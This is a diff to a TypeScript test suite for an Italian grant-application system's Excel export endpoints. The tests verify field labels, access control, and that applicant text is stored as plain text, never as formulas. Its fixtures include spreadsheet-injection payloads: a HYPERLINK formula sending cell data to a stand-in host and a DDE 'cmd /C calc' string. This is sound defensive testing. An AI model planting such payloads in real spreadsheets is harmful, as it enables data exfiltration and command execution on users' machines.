@@ -10,13 +10,14 @@ let applicant: Awaited<ReturnType<typeof personWithOrganization>>;
 let dangerousId: string;
 let plainId: string;
 let puiId: string;
+let otherOrgId: string;
 
 /** Text a spreadsheet would evaluate if it were written as a formula or typed into a cell. */
 const injections = {
   progNome: '=HYPERLINK("http://attacco.example/?d="&A1,"Clicca qui")',
   descrizione: '+39 06 1234567',
   costiNomeCofinanziamento: '-2+3',
-  progComune: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  progComune: "@SUM(1+1)*cmd|' /C calc'!A0",
   progAreaTematica: '\tTabulazione iniziale',
   tempiDescrizione: '\rRitorno a capo iniziale',
 };
@@ -26,8 +27,17 @@ beforeAll(async () => {
   admin = await t.loginAsAdmin();
   applicant = await personWithOrganization(t, { name: '=Comune di Formula' });
   const other = await personWithOrganization(t, { name: 'Comune di Borgo Sereno' });
+  otherOrgId = other.orgId;
   dangerousId = await forceApplicationStatus(t, applicant.orgId, 'TUR', 'CANDIDATURA_SOTTOMESSA', {
-    body: { ...injections, costiIintervento: 2_500_000.5, progInherentPui: true, tipoIntervento: ['Restauro', '=1+1'] },
+    body: {
+      ...injections,
+      costiIintervento: 2_500_000.5,
+      progInherentPui: true,
+      tipoIntervento: ['Restauro', '=1+1'],
+      costiTecnicaIntervento: 'Equity',
+      tempiInizioLavori: '2026-03-01',
+      turSurveyDto: { piantumazioni: 'true', numeroPiantumazioni: 120 },
+    },
     warnings: ['=Avviso che sembra una formula', 'Quota del fondo superiore al 50% del totale'],
     submittedAt: new Date('2026-04-15T08:30:00Z'),
   });
@@ -67,7 +77,16 @@ describe('POST /api/DraftCompilazione/DownloadExcelCompilazioni', () => {
     expect(response.headers['transfer-encoding']).toBe('chunked');
 
     const { headers, rows } = await readBack(response.rawPayload);
-    expect(headers.slice(0, 8)).toEqual(['Organizzazione', 'P.IVA', 'E-mail', 'Stato', 'Data candidatura', 'Ultimo cambio di stato', 'Avvisi', 'Dati']);
+    expect(headers.slice(0, 8)).toEqual([
+      'Organizzazione',
+      'P.IVA',
+      'E-mail',
+      'Stato',
+      'Data candidatura',
+      'Ultimo cambio di stato',
+      'Avvisi',
+      'Dati',
+    ]);
     expect(rows).toHaveLength(2);
     expect(rows.map((r) => r.get('Organizzazione')!.value)).toEqual(['=Comune di Formula', 'Comune di Borgo Sereno']);
     const [dangerous, plain] = rows as [Map<string, ExcelJS.Cell>, Map<string, ExcelJS.Cell>];
@@ -118,5 +137,110 @@ describe('POST /api/DraftCompilazione/DownloadExcelCompilazioni', () => {
     expect(unknownFund.statusCode).toBe(400);
     expect(unknownFund.json().message).toBe('Fondo non valido: indicare TUR o PUI.');
     expect((await download({ compilazioniId: ['non-un-id'], callType: 'TUR' }, admin.token)).statusCode).toBe(400);
+  });
+});
+
+describe('GET /api/DraftCompilazione/DownloadExcelCompilazione (one application)', () => {
+  function downloadOne(query: Record<string, string>, token?: string) {
+    return t.app.inject({
+      method: 'GET',
+      url: `/api/DraftCompilazione/DownloadExcelCompilazione?${new URLSearchParams(query)}`,
+      headers: token ? { authorization: `Bearer ${token}` } : {},
+    });
+  }
+
+  /** The facts on top (label → value) and the field rows (spec field name → [place, label, answer cell]). */
+  async function readApplication(buffer: Buffer) {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0]!;
+    const facts = new Map<string, ExcelJS.Cell>();
+    const fields = new Map<string, { place: string; label: string; answer: ExcelJS.Cell }>();
+    let inFields = false;
+    sheet.eachRow((row) => {
+      const first = String(row.getCell(1).value ?? '');
+      if (first === 'Sezione') {
+        inFields = true;
+        expect([2, 3, 4].map((c) => row.getCell(c).value)).toEqual(['Campo', 'Valore', 'Nome del campo']);
+        return;
+      }
+      if (inFields) fields.set(String(row.getCell(4).value), { place: first, label: String(row.getCell(2).value), answer: row.getCell(3) });
+      else facts.set(first, row.getCell(2));
+    });
+    return { sheet, facts, fields };
+  }
+
+  it('streams CandidaturaTur-{orgName}.xlsx with every field of the fund, Italian labels and the answers', async () => {
+    const response = await downloadOne({ orgId: applicant.orgId, callType: 'TUR' }, admin.token);
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+    expect(response.headers['content-disposition']).toContain('filename="CandidaturaTur-=Comune di Formula.xlsx"');
+    expect(response.headers['transfer-encoding']).toBe('chunked');
+
+    const { sheet, facts, fields } = await readApplication(response.rawPayload);
+    expect(sheet.name).toBe('Candidatura TUR');
+    expect(facts.get('Organizzazione')!.value).toBe('=Comune di Formula');
+    expect(facts.get('Stato')!.value).toBe('Candidatura Sottomessa');
+    expect(facts.get('Dati')!.value).toBe('Candidatura');
+    expect((facts.get('Data candidatura')!.value as Date).toISOString()).toBe('2026-04-15T10:30:00.000Z');
+
+    // One row per field of the TUR definition, in the wizard's order, each with its label.
+    const { turWizardDefinition } = await import('../../domain/tur/turWizard.ts');
+    expect([...fields.keys()]).toEqual(turWizardDefinition.fields.map((field) => field.name));
+    expect(fields.get('progNome')).toMatchObject({ place: 'Progetto', label: 'Nome del progetto' });
+    expect(fields.get('costiIintervento')!.answer.value).toBe(2_500_000.5);
+    expect(fields.get('costiTecnicaIntervento')!.answer.value).toBe('Equity');
+    expect(fields.get('costiTecnicaIntervento')!.label).toBe('Forma tecnica dell\u2019intervento');
+    // A yes/no answer reads Sì / No, a day is a date cell.
+    expect(fields.get('turSurveyDto.piantumazioni')!.answer.value).toBe('Sì');
+    expect(fields.get('turSurveyDto.numeroPiantumazioni')!.answer.value).toBe(120);
+    expect((fields.get('tempiInizioLavori')!.answer.value as Date).toISOString()).toBe('2026-03-01T00:00:00.000Z');
+    expect(fields.get('tempiInizioLavori')!.answer.numFmt).toBe('dd/mm/yyyy');
+    // A field nobody answered is a blank cell, not "null".
+    expect(fields.get('progProvincia')!.answer.value).toBeNull();
+  });
+
+  it('writes what the applicant typed as text, never as a formula', async () => {
+    const response = await downloadOne({ orgId: applicant.orgId, callType: '0' }, admin.token);
+    const { facts, fields } = await readApplication(response.rawPayload);
+    const cells: [ExcelJS.Cell, string][] = [
+      [facts.get('Organizzazione')!, '=Comune di Formula'],
+      [facts.get('Avvisi')!, '=Avviso che sembra una formula\nQuota del fondo superiore al 50% del totale'],
+      [fields.get('progNome')!.answer, injections.progNome],
+      [fields.get('descrizione')!.answer, injections.descrizione],
+      [fields.get('costiNomeCofinanziamento')!.answer, injections.costiNomeCofinanziamento],
+    ];
+    for (const [cell, text] of cells) {
+      expect(cell.type, text).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula, text).toBeUndefined();
+      expect(cell.numFmt, text).toBe('@');
+      expect(cell.value, text).toBe(text);
+    }
+  });
+
+  it('exports the draft while nothing was submitted', async () => {
+    const response = await downloadOne({ orgId: otherOrgId, callType: 'tur' }, admin.token);
+    expect(response.statusCode).toBe(200);
+    const { facts, fields } = await readApplication(response.rawPayload);
+    expect(facts.get('Dati')!.value).toBe('Bozza');
+    expect(facts.get('Stato')!.value).toBe('Aperta');
+    expect(fields.get('progNome')!.answer.value).toBe('Sentiero delle vigne');
+  });
+
+  it('refuses applicants (403) and anonymous callers (401); 404 for no application or an unknown organisation; 400 for an unknown fund', async () => {
+    const forbidden = await downloadOne({ orgId: applicant.orgId, callType: 'TUR' }, applicant.token);
+    expect(forbidden.statusCode).toBe(403);
+    expect(forbidden.json().message).toBe('Non hai i permessi per questa operazione.');
+    expect((await downloadOne({ orgId: applicant.orgId, callType: 'TUR' })).statusCode).toBe(401);
+    const none = await downloadOne({ orgId: applicant.orgId, callType: 'PUI' }, admin.token);
+    expect(none.statusCode).toBe(404);
+    expect(none.json().message).toBe(
+      'Questa organizzazione non ha ancora una candidatura per questo fondo: non c\u2019è nulla da esportare.',
+    );
+    expect((await downloadOne({ orgId: '00000000-0000-4000-8000-000000000001', callType: 'TUR' }, admin.token)).statusCode).toBe(404);
+    expect((await downloadOne({ orgId: 'non-un-id', callType: 'TUR' }, admin.token)).statusCode).toBeLessThan(500);
+    const unknownFund = await downloadOne({ orgId: applicant.orgId, callType: 'FESR' }, admin.token);
+    expect(unknownFund.statusCode).toBe(400);
+    expect(unknownFund.json().message).toBe('Fondo non valido: indicare TUR o PUI.');
   });
 });
